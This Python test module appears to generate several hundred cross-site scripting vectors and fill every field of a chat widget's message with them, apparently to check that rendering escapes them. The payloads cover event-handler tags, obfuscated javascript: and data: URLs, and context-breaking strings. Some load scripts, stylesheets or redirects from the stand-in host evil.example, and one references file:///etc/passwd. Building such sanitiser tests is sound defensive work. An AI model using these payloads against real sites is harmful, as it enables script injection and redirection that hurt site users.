"""Texts that would run a script where they were taken for HTML, put into every field that the widget renders."""

from __future__ import annotations

from itertools import product
from typing import Any

_CALL = "window.hacked=1"
_ELEMENTS = (
    "img src=x|svg|body|iframe src=x|video src=x|audio src=x|input autofocus|details open|marquee|a href=x|object data=x|"
    "button|textarea|custom-x"
).split("|")
_HANDLERS = "onerror onload onfocus onmouseover ontoggle onstart onpointerenter onanimationstart".split()
_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f" javascript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"javascript://example.org/%0a{_CALL}",
    f"vbscript:{_CALL}",
    f"data:text/html,<script>parent.{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    f"blob:{_CALL}",
    "file:///etc/passwd",
    "//evil.example/x",
    f"https:javascript:{_CALL}",
)
_LINKS = ("[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a][1]\n\n[1]: {}", '<a href="{}">a</a>', "[![a]({})](x)", "{}")
_BREAKS = ('"', "'", "`", "-->", "</textarea>", "</title>", "</style>", "]]>", "</script>", '\\"', "*/", "${", "{{", "&quot;")
_AFTER = (f"><script>{_CALL}</script>", f" onmouseover={_CALL} x=", f"><img src=x onerror={_CALL}>", f"+{_CALL}+")
_WHOLE = (
    f"<script>{_CALL}</script>",
    "<script src=//evil.example/x.js></script>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'></svg>",
    f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
    f"<template><script>{_CALL}</script></template>",
    f"```html\n<script>{_CALL}</script>\n```",
    f"| <script>{_CALL}</script> | b |\n|---|---|\n| <img src=x onerror={_CALL}> | d |",
)


def vectors() -> list[str]:
    """At least 300 of them."""
    elements = [f"<{element} {handler}={_CALL}>" for element, handler in product(_ELEMENTS, _HANDLERS)]
    links = [link.format(address) for link, address in product(_LINKS, _ADDRESSES)]
    breaks = [
        f"{sign}{more}"
        for sign, more in product(
            _BREAKS, (f"><script>{_CALL}</script>", f" onmouseover={_CALL} x=", f"><img src=x onerror={_CALL}>", f"+{_CALL}+")
        )
    ]
    return [*_WHOLE, *elements, *links, *breaks]


def attack() -> list[dict[str, Any]]:
    """A message for each, with it in every field."""
    return [_message(number, vector) for number, vector in enumerate(vectors())]


def _message(number: int, vector: str) -> dict[str, Any]:
    source = {"title": vector, "section": vector, "as_of": vector, "url": vector, "org": vector}
    step = {"id": f"s{number}", "title": vector, "why": vector, "done_when": vector, "source": vector, "status": vector}
    return {
        "text": vector,
        "buttons": [{"title": vector, "payload": vector}],
        "metadata": {
            "kind": vector,
            "facts": [vector],
            "sources": [source, source],
            "because": [vector],
            "missing": [vector],
            "plan": {"phases": [{"id": vector, "title": vector, "steps": [step]}], "done": vector, "total": vector},
            "picture": {"kind": "sections", "title": vector, "items": [vector, vector]},
            "interview": {"step": vector, "of": vector},
            "files": [{"label": vector, "path": vector}],
        },
    }
